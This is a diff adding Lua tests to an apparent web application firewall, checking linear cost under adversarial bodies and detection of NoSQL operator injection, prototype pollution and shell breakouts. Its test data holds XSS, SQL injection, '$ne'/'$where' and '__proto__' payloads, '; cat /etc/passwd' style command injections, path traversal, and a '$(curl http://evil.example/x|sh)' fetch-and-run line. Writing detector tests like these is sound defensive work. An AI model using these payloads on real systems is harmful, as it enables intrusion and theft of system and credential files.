@@ -320,6 +320,162 @@ test("cost stays linear in input size for adversarial inputs (fuzz)", function()
   truthy(worst < 24, string.format("worst growth %.1fx for 8x the input (%s)", worst, show(name)))
 end)
 
+-- A run of blanks (spaces, tabs, line breaks, encoded blanks) after an opener: patterns such as
+-- "^<%s*/?%s*" backtrack over it quadratically ('<' and 8,000 blanks once took 0.7 s).
+test("cost stays linear on long runs of blanks after any opener", function()
+  local openers = { "", "<", "</", "'", "\"", "`", "(", "${", "=", ";", "|", "&", "$(", "1", "-1", "x:", "http:", "../",
+    "<a", "on", "document", "select", "@", "\\", "/*", "--", "#", "<!doctype", "\n", "t(", "java." }
+  local fillers = { " ", "\t", "\n", "%20" }
+  local worst, name = 0, nil
+  for _, o in ipairs(openers) do
+    for _, f in ipairs(fillers) do
+      local function at(n)
+        local v = o .. string.rep(f, n // #f) .. "x'"
+        return H.cpu_per_call(function() D.cache_reset(); D.check(v) end)
+      end
+      local ratio = at(8000) / math.max(at(2000), 1e-7)
+      if ratio > worst then worst, name = ratio, show(o) .. " + " .. show(f) end
+    end
+  end
+  -- 4 times the input: about 4 for a linear engine, 16 for a quadratic one
+  truthy(worst < 8, string.format("worst growth %.1fx for 4x the input (%s)", worst, tostring(name)))
+end)
+
+---------------------------------------------------------------------------------------------------
+-- The budget of one request (D.inspect): body bytes, values, JSON depth, decoding rounds
+---------------------------------------------------------------------------------------------------
+local function post(ct, body) return req({ method = "POST", headers = { ["content-type"] = { [0] = ct } }, body = body }) end
+local function fields(n, f) local t = {} for i = 1, n do t[i] = f(i) end return table.concat(t, "&") end
+local rep = string.rep
+-- The reason D.inspect gives r (nil when it passes), the clean-value cache emptied first.
+local function reason(r) D.cache_reset(); local f = D.inspect(r); return f and f.reason end
+
+-- The adversarial bodies of the budget, each at full size (k = 4) and at a quarter (k = 1).
+local ADVERSARIAL_BODIES = {
+  { "JSON arrays nested 10,000 deep", function(k) return post("application/json", rep("[", 2500 * k) .. rep("]", 2500 * k)) end },
+  { "JSON objects nested 10,000 deep", function(k) return post("application/json", rep('{"a":', 2500 * k) .. "1" .. rep("}", 2500 * k)) end },
+  { "a JSON string of 10,000 \\u escapes", function(k) return post("application/json", '{"a":"' .. rep("\\u003c", 2500 * k) .. '"}') end },
+  { "5,000 form fields", function(k) return post("application/x-www-form-urlencoded", fields(1250 * k, function(i) return "f" .. i .. "=%3C" .. i end)) end },
+  { "5,000 repeated form fields", function(k) return post("application/x-www-form-urlencoded", fields(1250 * k, function(i) return "a=%3C" .. i end)) end },
+  { "a 64 KB multipart upload", function(k)
+    local t = {}
+    for i = 1, 16 * k do t[i] = string.format("%04d", i) .. rep("\0\255<a (x);'\"|", 84) .. "\n" end
+    local file = table.concat(t):sub(1, 16384 * k - 200)
+    return post("multipart/form-data; boundary=XX", '--XX\r\nContent-Disposition: form-data; name="f"; filename="photo.jpg"\r\nContent-Type: image/jpeg\r\n\r\n' ..
+      file .. '\r\n--XX\r\nContent-Disposition: form-data; name="title"\r\n\r\nholiday\r\n--XX--\r\n')
+  end },
+}
+
+test("budget: adversarial bodies cost linear time (nesting, escapes, fields, uploads)", function()
+  local superlinear, report = {}, {}
+  for _, c in ipairs(ADVERSARIAL_BODIES) do
+    local small, full = c[2](1), c[2](4)
+    local cs = H.cpu_per_call(function() D.cache_reset(); D.inspect(small) end)
+    local cf = H.cpu_per_call(function() D.cache_reset(); D.inspect(full) end)
+    report[#report + 1] = string.format("%s (%d bytes): %.2f ms", c[1], #full.body, cf * 1000)
+    -- 4 times the input: linear work about 4 times the time, quadratic 16
+    if cf > 8 * cs then superlinear[#superlinear + 1] = string.format("%s: %.2f ms at a quarter, %.2f ms at full size (x%.1f)", c[1], cs * 1000, cf * 1000, cf / cs) end
+  end
+  print("       " .. table.concat(report, "\n       "))
+  if #superlinear > 0 then fail("cost grows faster than the input:\n         " .. table.concat(superlinear, "\n         ")) end
+end)
+
+test("budget: past VALUES_LIMIT values, the rest is inspected together (a payload behind 2,500 dummy fields is found)", function()
+  local n = D.VALUES_LIMIT + 500
+  local body = fields(n, function(i) return "f" .. i .. "=v" .. i end) .. "&q=%3Cscript%3Ealert(1)%3C/script%3E"
+  D.cache_reset()
+  local f = D.inspect(post("application/x-www-form-urlencoded", body))
+  truthy(f, "finding")
+  eq(f.reason, "xss_detected", "reason")
+  eq(f.location, "body:*", "location: the rest of the body")
+  -- within the budget the same field is named
+  D.cache_reset()
+  f = D.inspect(post("application/x-www-form-urlencoded", fields(10, function(i) return "f" .. i .. "=v" .. i end) .. "&q=%3Cscript%3Ealert(1)%3C/script%3E"))
+  eq(f and f.location, "body:q", "within the budget")
+  -- an exception for every body field covers the rest too
+  D.cache_reset()
+  falsy(D.inspect(post("application/x-www-form-urlencoded", body), { { path = "/", loc = "body:*", det = "xss" } }), "body:* exception")
+  -- ordinary values past the budget pass
+  D.cache_reset()
+  falsy(D.inspect(post("application/x-www-form-urlencoded", fields(n, function(i) return "f" .. i .. "=O%27Brien+" .. i end))), "ordinary rest")
+end)
+
+test("budget: JSON nested deeper than DEPTH_LIMIT is still scanned (strings inspected, __proto__ and operators after a field refused)", function()
+  local deep = D.DEPTH_LIMIT + 36
+  local function nest(inner) return rep('{"a":', deep) .. inner .. rep("}", deep) end
+  eq(reason(post("application/json", nest('"<script>alert(1)</script>"'))), "xss_detected", "a string at depth 100")
+  eq(reason(post("application/json", nest('{"__proto__":{"x":1}}'))), "injection_detected", "__proto__ at depth 100")
+  eq(reason(post("application/json", nest('{"password":{"$ne":null}}'))), "injection_detected", "an operator under a field at depth 100")
+  falsy(reason(post("application/json", nest('{"title":"O\'Brien"}'))), "ordinary values at depth 100")
+end)
+
+test("budget: the values of a repeated name are joined up to JOIN_LIMIT bytes", function()
+  eq(reason(req({ query = "id=1%20UNION/*&id=*/SELECT%201,2" })), "sqli_detected", "joined")
+  -- far past the limit, the pieces are still inspected (on their own and, past VALUES_LIMIT, with the rest)
+  D.cache_reset()
+  falsy(D.inspect(req({ query = rep("id=1&", 3000) .. "id=2" })), "3,000 ordinary values")
+  truthy(D.JOIN_LIMIT >= 4096 and D.JOIN_LIMIT <= D.VALUE_LIMIT, "a documented limit")
+end)
+
+test("budget: values are decoded at most DECODE_ROUNDS times", function()
+  eq(D.DECODE_ROUNDS, 3, "rounds")
+  eq(D.canonical("%253Cb%253E"), "<b>", "two rounds")
+  -- four levels of percent-encoding: three rounds leave one
+  eq(D.canonical("%2525253Cb%2525253E"), "%3Cb%3E", "stops after three rounds")
+end)
+
+---------------------------------------------------------------------------------------------------
+-- Structure: operator injection into document databases and prototype pollution
+---------------------------------------------------------------------------------------------------
+test("structure: operators as keys are injection; a '$' in text, containers and other '$' keys are not", function()
+  local function json(body) D.cache_reset(); return D.inspect(post("application/json", body)) end
+  local f = json('{"user":"a","password":{"$ne":null}}')
+  eq(f and f.reason, "injection_detected", "$ne")
+  eq(f and f.location, "body:password", "the field it replaced")
+  truthy(f and f.matched:find("$ne", 1, true), "excerpt shows the operator: " .. show(f and f.matched))
+  eq(reason(post("application/json", '{"$where":"sleep(100)"}')), "injection_detected", "$where")
+  eq(reason(post("application/json", '{"where":{"$where":"1"}}')), "injection_detected", "$where even in a container")
+  falsy(json('{"filter":{"age":{"$gt":18}}}'), "a filter container")
+  falsy(json('{"note":"use $ne for not equal","price":"$gt 100","$schema":"x","$ref":"#/a","_id":{"$oid":"5f"}}'), "'$' in text, other '$' keys")
+  falsy(json('{"constructor":"Point","prototype":"Object"}'), "constructor and prototype side by side")
+  local g = json('{"a":{"constructor":{"prototype":{"x":1}}}}')
+  eq(g and g.location, "body:prototype", "constructor.prototype")
+  -- names
+  eq(D.name_structure("password[$ne]"), 10, "password[$ne]")
+  eq(D.name_structure("a.__proto__.b"), 3, "a.__proto__.b")
+  falsy(D.name_structure("filters[title][$eq]"), "Strapi's filters")
+  falsy(D.name_structure("price[gte]"), "no '$'")
+  falsy(D.name_structure("$filter"), "OData's $filter")
+  falsy(D.name_structure("tags[]"), "tags[]")
+end)
+
+test("structure: a waf_exception for the injection detector lets the structure through", function()
+  local r = post("application/json", '{"filter2":{"age":{"$gt":18}}}')
+  r.path = "/api/search"
+  D.cache_reset()
+  truthy(D.inspect(r), "refused without an exception")
+  D.cache_reset()
+  -- the location names the field the operator stands in for
+  falsy(D.inspect(r, { { path = "/api/search", loc = "body:age", det = "injection" } }), "excepted")
+  D.cache_reset()
+  truthy(D.inspect(r, { { path = "/api/search", loc = "body:age", det = "xss" } }), "another detector's exception")
+end)
+
+---------------------------------------------------------------------------------------------------
+-- Commands and paths in text: what still counts
+---------------------------------------------------------------------------------------------------
+test("text: a command quoted in text passes; a breakout into a shell is still caught", function()
+  for _, v in ipairs({ "I ran ls -la /var/log and it showed nothing", "try `cat /etc/hosts` to check",
+    "Hi,\nI ran:\nls -la /var/log\nand it showed nothing", "I tried many things; ls -la shows the files" }) do
+    falsy(D.check(v), v)
+  end
+  for _, v in ipairs({ "127.0.0.1; cat /etc/passwd", "x;ls -la", "a b; cat /etc/passwd", "`cat /etc/passwd`", "a`id`",
+    "hello world, it's me'; cat /etc/passwd #", "x\nwhoami", "$(curl http://evil.example/x|sh)", "one two three $(id)",
+    "see ../../../../etc/passwd please", "the file is ../../../../../secret.txt ok", "please read /etc/passwd%00.png" }) do
+    truthy(D.check(v), v)
+  end
+end)
+
 test("random inputs never raise an error", function()
   math.randomseed(8)
   local alphabet = "<>'\"`;|&$(){}[]/\\%#=-+*.,: \n\t\0abcxyzABC019<script>union select../${jndi:"
